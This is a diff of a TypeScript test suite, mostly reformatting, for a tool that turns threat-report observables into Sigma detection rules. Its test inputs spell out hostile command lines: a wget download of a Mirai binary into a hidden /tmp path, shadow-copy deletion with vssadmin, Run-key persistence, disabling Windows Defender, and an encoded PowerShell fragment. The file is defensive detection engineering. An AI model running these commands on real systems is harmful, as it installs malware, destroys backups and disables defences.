@@ -19,7 +19,15 @@ const input: BuiltinSigmaInput = {
     { ...item, value: 'whoami', executable: 'whoami' },
   ],
   processPairs: [{ ...item, value: 'winword.exe -> powershell.exe', parent: 'WINWORD.EXE', child: 'powershell.exe' }],
-  registryKeys: [{ ...item, value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', hive: 'HKCU', path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', value_name: 'Updater' }],
+  registryKeys: [
+    {
+      ...item,
+      value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+      hive: 'HKCU',
+      path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+      value_name: 'Updater',
+    },
+  ],
   services: [{ ...item, value: 'WinSvcHelper', binary_path: 'C:\\ProgramData\\svc\\helper.exe' }],
   scheduledTasks: [{ ...item, value: 'OneDriveSync' }],
   network: [
@@ -29,7 +37,20 @@ const input: BuiltinSigmaInput = {
   ],
 };
 
-type Rule = { title: string; id: string; status: string; description: string; references: string[]; author: string; date: string; tags?: string[]; logsource: Record<string, string>; detection: Record<string, unknown>; level: string; falsepositives: string[] };
+type Rule = {
+  title: string;
+  id: string;
+  status: string;
+  description: string;
+  references: string[];
+  author: string;
+  date: string;
+  tags?: string[];
+  logsource: Record<string, string>;
+  detection: Record<string, unknown>;
+  level: string;
+  falsepositives: string[];
+};
 
 describe('builtin SigmaAgent templates', () => {
   const drafts = generateBuiltinRules(input);
@@ -61,10 +82,16 @@ describe('builtin SigmaAgent templates', () => {
     const [certutil, powershell] = rules.map(({ rule }) => rule);
     expect(must(powershell).title).toBe('PowerShell Encoded Or Base64-Decoded Command');
     // -nop -w hidden -enc are how many scripts run: the encoded command is what makes the selection this intrusion's.
-    expect(must(powershell).detection['selection']).toEqual({ 'Image|endswith': '\\powershell.exe', 'CommandLine|contains|all': ['-nop', '-w hidden', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'] });
+    expect(must(powershell).detection['selection']).toEqual({
+      'Image|endswith': '\\powershell.exe',
+      'CommandLine|contains|all': ['-nop', '-w hidden', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'],
+    });
     expect(must(certutil).title).toBe('File Download Via Certutil.EXE');
     // The host, the folder and the throwaway file name (a.exe) belong to this intrusion; the technique is the switch.
-    expect(must(certutil).detection['selection']).toEqual({ 'Image|endswith': '\\certutil.exe', 'CommandLine|contains|windash': ['-urlcache', '-verifyctl'] });
+    expect(must(certutil).detection['selection']).toEqual({
+      'Image|endswith': '\\certutil.exe',
+      'CommandLine|contains|windash': ['-urlcache', '-verifyctl'],
+    });
     expect(must(certutil).tags).toEqual(['attack.command-and-control', 'attack.t1105']);
     expect(must(certutil).level).toBe('high');
     expect(rules.some(({ rule }) => JSON.stringify(rule.detection).includes('whoami'))).toBe(false);
@@ -75,7 +102,10 @@ describe('builtin SigmaAgent templates', () => {
 
   it('maps lineage, registry, service, task and network observables to their classes', () => {
     const lineage = rules.find(({ rule }) => rule.title === 'Powershell.EXE Started By WINWORD.EXE');
-    expect(must(lineage).rule.detection['selection']).toEqual({ 'ParentImage|endswith': '\\WINWORD.EXE', 'Image|endswith': '\\powershell.exe' });
+    expect(must(lineage).rule.detection['selection']).toEqual({
+      'ParentImage|endswith': '\\WINWORD.EXE',
+      'Image|endswith': '\\powershell.exe',
+    });
     const byClass = Object.fromEntries(rules.map(({ draft, rule }) => [draft.telemetryClass, rule]));
     expect(must(byClass['registry_set']).detection['selection']).toEqual({
       'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
@@ -88,7 +118,10 @@ describe('builtin SigmaAgent templates', () => {
       EventID: 7045,
       'ImagePath|contains': 'C:\\ProgramData\\svc\\helper.exe',
     });
-    expect(must(byClass['scheduled_task_creation']).detection['selection']).toEqual({ EventID: 4698, 'TaskName|endswith': '\\OneDriveSync' });
+    expect(must(byClass['scheduled_task_creation']).detection['selection']).toEqual({
+      EventID: 4698,
+      'TaskName|endswith': '\\OneDriveSync',
+    });
     // The article's addresses and host names are one sweep: one rule, either selection.
     expect(must(byClass['network_connection']).detection).toEqual({
       selection_ip: { DestinationIp: ['203.0.113.7'] },
@@ -104,7 +137,14 @@ describe('builtin SigmaAgent templates', () => {
       const drafted = generateBuiltinRules({ ...input, registryKeys }).find((draft) => draft.telemetryClass === 'registry_set');
       return (must(drafted).rule as unknown as Rule).detection['selection'];
     };
-    expect(selectionOf(keys('HKEY_USERS\\<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'))).toEqual({
+    expect(
+      selectionOf(
+        keys(
+          'HKEY_USERS\\<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+          '<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+        ),
+      ),
+    ).toEqual({
       'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
       'TargetObject|endswith': '\\Updater',
     });
@@ -114,46 +154,76 @@ describe('builtin SigmaAgent templates', () => {
     });
     // A real class id is part of the key, not a placeholder.
     const clsid = 'Software\\Classes\\CLSID\\{0E5AAE11-A475-4C5B-AB00-C66DE400274E}\\InprocServer32';
-    expect(selectionOf(keys(`HKCU\\${clsid}`, clsid))).toEqual({ 'TargetObject|contains': `\\${clsid}`, 'TargetObject|endswith': '\\Updater' });
+    expect(selectionOf(keys(`HKCU\\${clsid}`, clsid))).toEqual({
+      'TargetObject|contains': `\\${clsid}`,
+      'TargetObject|endswith': '\\Updater',
+    });
   });
 
   it('titles a registry rule with the value and the key it is set under, or a key with its parent', () => {
     const titleOf = (key: Partial<NonNullable<BuiltinSigmaInput['registryKeys']>[number]>) => {
       const registryKeys = [{ ...item, hive: 'HKLM' as const, ...key }] as BuiltinSigmaInput['registryKeys'];
-      return must(generateBuiltinRules({ ...input, cmdlines: [], registryKeys }).find((draft) => draft.telemetryClass === 'registry_set')).rule.title;
+      return must(generateBuiltinRules({ ...input, cmdlines: [], registryKeys }).find((draft) => draft.telemetryClass === 'registry_set'))
+        .rule.title;
     };
     const terminal = 'SYSTEM\\CurrentControlSet\\Control\\Terminal Server';
-    expect(titleOf({ value: `HKLM\\${terminal}`, path: terminal, value_name: 'fDenyQuillConnections' })).toBe('Registry Value fDenyQuillConnections Set Under Terminal Server');
-    expect(titleOf({ value: `HKLM\\${terminal}\\fDenyQuillConnections`, path: `${terminal}\\fDenyQuillConnections`, value_name: 'fDenyQuillConnections' })).toBe(
+    expect(titleOf({ value: `HKLM\\${terminal}`, path: terminal, value_name: 'fDenyQuillConnections' })).toBe(
       'Registry Value fDenyQuillConnections Set Under Terminal Server',
     );
+    expect(
+      titleOf({
+        value: `HKLM\\${terminal}\\fDenyQuillConnections`,
+        path: `${terminal}\\fDenyQuillConnections`,
+        value_name: 'fDenyQuillConnections',
+      }),
+    ).toBe('Registry Value fDenyQuillConnections Set Under Terminal Server');
     const service = 'SYSTEM\\CurrentControlSet\\Services\\QuillRelay';
     expect(titleOf({ value: `HKLM\\${service}`, path: service, value_name: undefined })).toBe('Registry Key QuillRelay Set Under Services');
   });
 
-  it('leaves the genuine program out of a Run value named like Windows\' own, unless the intruder\'s data is known', () => {
-    const runValue = { ...item, value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSetup', hive: 'HKCU' as const, path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSetup' };
+  it("leaves the genuine program out of a Run value named like Windows' own, unless the intruder's data is known", () => {
+    const runValue = {
+      ...item,
+      value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSetup',
+      hive: 'HKCU' as const,
+      path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSetup',
+    };
     const detectionOf = (cmdlines: BuiltinSigmaInput['cmdlines']) =>
-      must(generateBuiltinRules({ ...input, cmdlines, registryKeys: [runValue] }).find((draft) => draft.telemetryClass === 'registry_set')).rule.detection;
+      must(generateBuiltinRules({ ...input, cmdlines, registryKeys: [runValue] }).find((draft) => draft.telemetryClass === 'registry_set'))
+        .rule.detection;
     expect(detectionOf([])).toEqual({
       selection: { 'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSetup' },
       filter_genuine: { 'Details|contains': '\\OneDriveSetup.exe' },
       condition: 'selection and not filter_genuine',
     });
-    const written = detectionOf([{ ...item, value: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSetup /d "C:\\Users\\Public\\quill.exe" /f', executable: 'reg' }]);
+    const written = detectionOf([
+      {
+        ...item,
+        value: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSetup /d "C:\\Users\\Public\\quill.exe" /f',
+        executable: 'reg',
+      },
+    ]);
     expect(written['condition']).toBe('selection');
     expect(written['selection']).toMatchObject({ 'Details|contains': 'C:\\Users\\Public\\quill.exe' });
   });
 
   it('skips Windows-only classes for a Linux article and uses the linux product', () => {
-    const linux = generateBuiltinRules({ ...input, platform: 'linux', processPairs: [], cmdlines: [{ ...item, value: 'cd /tmp && wget -q http://198.51.100.4/bins/mirai.x86 -O /tmp/.sysd/dbus-helper', executable: 'cd' }] });
+    const linux = generateBuiltinRules({
+      ...input,
+      platform: 'linux',
+      processPairs: [],
+      cmdlines: [{ ...item, value: 'cd /tmp && wget -q http://198.51.100.4/bins/mirai.x86 -O /tmp/.sysd/dbus-helper', executable: 'cd' }],
+    });
     const classes = linux.map((draft) => draft.telemetryClass);
     expect(classes).not.toContain('registry_set');
     expect(classes).not.toContain('service_creation');
     const cmd = must(linux[0]).rule as unknown as Rule;
     expect(cmd.logsource.product).toBe('linux');
     // The program that ran is wget, not the shell built-in the line starts with.
-    expect(cmd.detection['selection']).toEqual({ 'Image|endswith': '/wget', 'CommandLine|contains|all': ['http://', '/bins/mirai.x86', '/tmp/.sysd/dbus-helper'] });
+    expect(cmd.detection['selection']).toEqual({
+      'Image|endswith': '/wget',
+      'CommandLine|contains|all': ['http://', '/bins/mirai.x86', '/tmp/.sysd/dbus-helper'],
+    });
     expect(cmd.title).toBe('Wget Download From Remote Host');
   });
 
@@ -170,7 +240,10 @@ describe('builtin SigmaAgent templates', () => {
     });
     const loaded = wrapped.map((draft) => draft.rule as unknown as Rule);
     // cmd.exe runs the command in `for /f … in ('…')` first: finger fetching the next commands is the finding.
-    expect(loaded.map((rule) => rule.title)).toEqual(['Remote Commands Retrieved Via Finger.EXE', 'Rundll32.EXE Execution Of DLL From Unusual Location']);
+    expect(loaded.map((rule) => rule.title)).toEqual([
+      'Remote Commands Retrieved Via Finger.EXE',
+      'Rundll32.EXE Execution Of DLL From Unusual Location',
+    ]);
     expect(loaded[1]?.detection).toEqual({
       selection: { 'Image|endswith': '\\rundll32.exe', 'CommandLine|contains': 'C:\\ProgramData\\Intel\\update.dll,DllRegisterServer' },
       condition: 'selection',
@@ -183,11 +256,20 @@ describe('builtin SigmaAgent templates', () => {
       platform: 'windows',
       cmdlines: [
         { ...item, value: 'vssadmin delete shadows /all /quiet', executable: 'vssadmin' },
-        { ...item, value: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d "rundll32.exe C:\\ProgramData\\s.dll,Start" /f', executable: 'reg' },
+        {
+          ...item,
+          value:
+            'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d "rundll32.exe C:\\ProgramData\\s.dll,Start" /f',
+          executable: 'reg',
+        },
       ],
     });
     const [vssadmin, reg] = drafts.map((draft) => draft.rule as unknown as Rule);
-    expect(vssadmin).toMatchObject({ title: 'Shadow Copies Deleted Via Vssadmin.EXE', level: 'high', tags: ['attack.impact', 'attack.t1490'] });
+    expect(vssadmin).toMatchObject({
+      title: 'Shadow Copies Deleted Via Vssadmin.EXE',
+      level: 'high',
+      tags: ['attack.impact', 'attack.t1490'],
+    });
     expect(reg).toMatchObject({ title: 'Run Key Persistence Via Reg.EXE', level: 'high' });
     expect(reg?.tags).toEqual(['attack.defense-impairment', 'attack.persistence', 'attack.t1112', 'attack.t1547.001']);
   });
@@ -197,11 +279,18 @@ describe('builtin SigmaAgent templates', () => {
       article,
       platform: 'windows',
       cmdlines: [
-        { ...item, value: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d C:\\ProgramData\\sync.exe /f', executable: 'reg' },
+        {
+          ...item,
+          value: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d C:\\ProgramData\\sync.exe /f',
+          executable: 'reg',
+        },
         { ...item, value: 'reg add HKLM\\System\\CurrentControlSet\\Services\\WinDefend /v Start /t REG_DWORD /d 4 /f', executable: 'reg' },
       ],
     });
-    expect(drafts.filter((draft) => draft.telemetryClass === 'process_creation').map((draft) => draft.rule.title)).toEqual(['Run Key Persistence Via Reg.EXE', 'Registry Modification Via Reg.EXE']);
+    expect(drafts.filter((draft) => draft.telemetryClass === 'process_creation').map((draft) => draft.rule.title)).toEqual([
+      'Run Key Persistence Via Reg.EXE',
+      'Registry Modification Via Reg.EXE',
+    ]);
   });
 
   it('keeps resolvers, CDNs and code hosts out of IOC rules', () => {
@@ -241,14 +330,20 @@ describe('builtin SigmaAgent templates', () => {
   });
 
   it('splits more than five selections into several rules', () => {
-    const many = Array.from({ length: 7 }, (_, index) => ({ ...item, value: `rundll32.exe C:\\Temp\\mod${index}.dll,Start`, executable: 'rundll32.exe' }));
+    const many = Array.from({ length: 7 }, (_, index) => ({
+      ...item,
+      value: `rundll32.exe C:\\Temp\\mod${index}.dll,Start`,
+      executable: 'rundll32.exe',
+    }));
     const split = generateBuiltinRules({ article, platform: 'windows', cmdlines: many });
     expect(split).toHaveLength(2);
     expect(must(split[1]).rule.title).toBe('Rundll32.EXE Execution Of DLL From Unusual Location (2)');
   });
 
   it('picks path, URL and encoded arguments over switches', () => {
-    expect(distinctiveTokens('schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon')).toEqual(['C:\\Users\\Public\\u.exe']);
+    expect(distinctiveTokens('schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon')).toEqual([
+      'C:\\Users\\Public\\u.exe',
+    ]);
     expect(distinctiveTokens('net user')).toEqual([]);
     expect(distinctiveTokens('powershell -EncodedCommand')).toEqual(['-EncodedCommand']);
   });
